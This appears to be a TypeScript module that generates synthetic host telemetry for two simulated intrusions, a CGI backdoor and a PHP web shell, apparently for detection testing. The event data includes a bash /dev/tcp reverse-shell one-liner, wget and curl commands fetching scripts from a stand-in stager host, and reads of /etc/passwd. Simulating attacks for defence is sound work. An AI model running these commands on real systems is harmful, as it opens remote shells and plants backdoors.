import { publicIpv4, publicIpv6 } from './addresses';
import { DEBIAN_12, UBUNTU_2204 } from './event_base';
import { account, ROOT } from './host_activity';
import { HOUR, MINUTE, SECOND, serveClients, type ScenarioInstance } from './scenario_context';
import { runCommand, shellCommand, sshLogin, startService, startSshd } from './sessions';

export const WWW_DATA = account('www-data', 33);

/**
 * Builds the backdoor scenario: an attacker with a reverse shell as `www-data` (through the Apache worker) drops CGI
 * scripts into /dev/shm/cgi-bin and starts `python3 -m http.server --cgi 8080` there. The
 * scripts run shells, and one of them calls back to the attacker on port 4444.
 */
export function buildBackdoor(instance: ScenarioInstance): void {
  const { random } = instance;
  const startMs = instance.timeAgo(26 * HOUR, 6 * 24 * HOUR);
  const bootMs = startMs - random.int(3, 20) * HOUR;
  const host = instance.addHost('web-01', DEBIAN_12, instance.subnet('10.10.1'), 21, bootMs);

  const apacheArgs = ['/usr/sbin/apache2', '-k', 'start'];
  const apacheMs = bootMs + random.int(4, 9) * SECOND;
  const apache = startService(host, '/usr/sbin/apache2', apacheArgs, apacheMs);
  const worker = host.fork(apache, startMs - random.int(30, 120) * MINUTE, WWW_DATA);

  const attacker = publicIpv4(random);
  const stager = publicIpv4(random);
  const dropper = shellCommand(host, worker, `bash -i >& /dev/tcp/${attacker}/443 0>&1`, startMs);
  const shell = host.exec(
    dropper,
    { executable: '/usr/bin/bash', args: ['bash', '-i'], workingDirectory: '/tmp' },
    startMs + random.int(100, 300)
  );
  host.connect(shell, attacker, 443, shell.startMs + random.int(20, 80));

  let atMs = startMs + random.int(15, 30) * SECOND;
  runCommand(host, shell, 'id', atMs);
  runCommand(host, shell, 'uname -a', (atMs += random.int(5, 15) * SECOND));
  runCommand(host, shell, 'mkdir -p /dev/shm/cgi-bin', (atMs += random.int(10, 30) * SECOND));

  const scriptPath = '/dev/shm/cgi-bin/run.sh';
  const wgetArgs = ['wget', '-q', '-O', scriptPath, `http://${stager}/r.sh`];
  atMs += 20 * SECOND;
  const wget = host.exec(shell, { executable: '/usr/bin/wget', args: wgetArgs }, atMs);
  host.connect(wget, stager, 80, atMs + 150);
  host.file(wget, 'creation', scriptPath, atMs + 600, random.int(300, 600));
  host.end(wget, atMs + 900);
  atMs += random.int(15, 40) * SECOND;
  host.file(shell, 'creation', '/dev/shm/cgi-bin/cmd.py', atMs, 268);
  runCommand(host, shell, `chmod +x ${scriptPath} /dev/shm/cgi-bin/cmd.py`, (atMs += 9 * SECOND));

  const server = host.exec(
    shell,
    {
      executable: '/usr/bin/python3.11',
      args: ['python3', '-m', 'http.server', '--cgi', '8080'],
      workingDirectory: '/dev/shm',
    },
    (atMs += random.int(10, 30) * SECOND)
  );
  const clients = [attacker, publicIpv4(random), publicIpv4(random), publicIpv6(random)];
  serveClients(host, server, 8080, clients, {
    fromMs: server.startMs + MINUTE,
    toMs: server.startMs + 3 * HOUR,
    count: random.int(30, 45),
  });

  // A request for the shell script: the CGI handler runs it with /bin/sh.
  const cgiMs = server.startMs + random.int(5, 20) * MINUTE;
  host.accept(server, attacker, 8080, cgiMs - 40, random.int(500, 2000));
  const cgi = host.exec(
    server,
    { executable: '/bin/sh', args: ['/bin/sh', scriptPath], workingDirectory: '/dev/shm/cgi-bin' },
    cgiMs
  );
  runCommand(host, cgi, 'id', cgiMs + SECOND);
  runCommand(host, cgi, 'uname -a', cgiMs + 2 * SECOND);
  host.connect(cgi, attacker, 4444, cgiMs + 3 * SECOND);
  host.end(cgi, cgiMs + random.int(5, 40) * MINUTE);

  // Requests for the Python script, which runs its query string through `sh -c`.
  let scriptMs = cgiMs + random.int(30, 60) * MINUTE;
  for (const command of ['id', 'uname -a', 'cat /etc/passwd'].slice(0, random.int(2, 3))) {
    host.accept(server, attacker, 8080, scriptMs - 30, random.int(200, 900));
    const interpreter = '/usr/bin/python3.11';
    const scriptArgs = [interpreter, '-u', '/dev/shm/cgi-bin/cmd.py'];
    const python = host.exec(server, { executable: interpreter, args: scriptArgs }, scriptMs);
    const child = shellCommand(host, python, command, scriptMs + 40);
    host.end(child, scriptMs + 60);
    host.end(python, scriptMs + 90);
    scriptMs += random.int(2, 15) * MINUTE;
  }
}

/**
 * Builds the web shell scenario: an intruder logs in as root over SSH from a public address, serves the web root with
 * `php -S 0.0.0.0:8000`, downloads `shell.php` into it and runs commands through it.
 */
export function buildWebShell(instance: ScenarioInstance): void {
  const { random } = instance;
  const loginMs = instance.timeAgo(20 * HOUR, 5 * 24 * HOUR);
  const bootMs = loginMs - random.int(4, 30) * HOUR;
  const host = instance.addHost('cms-01', UBUNTU_2204, instance.subnet('10.10.2'), 15, bootMs);
  const sshd = startSshd(host, bootMs + random.int(5, 12) * SECOND);

  const attacker = publicIpv4(random);
  const stager = publicIpv4(random);
  const bash = sshLogin(host, sshd, ROOT, attacker, loginMs);
  runCommand(host, bash, 'ls -la /var/www/html', loginMs + random.int(10, 30) * SECOND);

  const server = host.exec(
    bash,
    {
      executable: '/usr/bin/php8.1',
      args: ['php', '-S', '0.0.0.0:8000', '-t', '/var/www/html'],
      workingDirectory: '/var/www/html',
    },
    loginMs + random.int(60, 90) * SECOND
  );

  const webShellPath = '/var/www/html/shell.php';
  const curlMs = server.startMs + random.int(20, 50) * SECOND;
  const curlArgs = ['curl', '-s', '-o', webShellPath, `http://${stager}/s.txt`];
  const curl = host.exec(bash, { executable: '/usr/bin/curl', args: curlArgs }, curlMs);
  host.connect(curl, stager, 80, curlMs + 120);
  host.file(curl, 'creation', webShellPath, curlMs + 500, random.int(900, 1800));
  host.end(curl, curlMs + 700);

  const clients = [attacker, publicIpv4(random), publicIpv4(random)];
  serveClients(host, server, 8000, clients, {
    fromMs: server.startMs + MINUTE,
    toMs: server.startMs + 2 * HOUR,
    count: random.int(25, 40),
  });

  let commandMs = curlMs + random.int(2, 10) * MINUTE;
  const commands = ['id', 'whoami', 'uname -a', 'cat /etc/passwd', 'ls -la /root'];
  for (const command of commands.slice(0, random.int(3, 5))) {
    host.accept(server, attacker, 8000, commandMs - 25, random.int(100, 800));
    const child = shellCommand(host, server, command, commandMs);
    host.end(child, commandMs + random.int(5, 60));
    commandMs += random.int(1, 12) * MINUTE;
  }
}
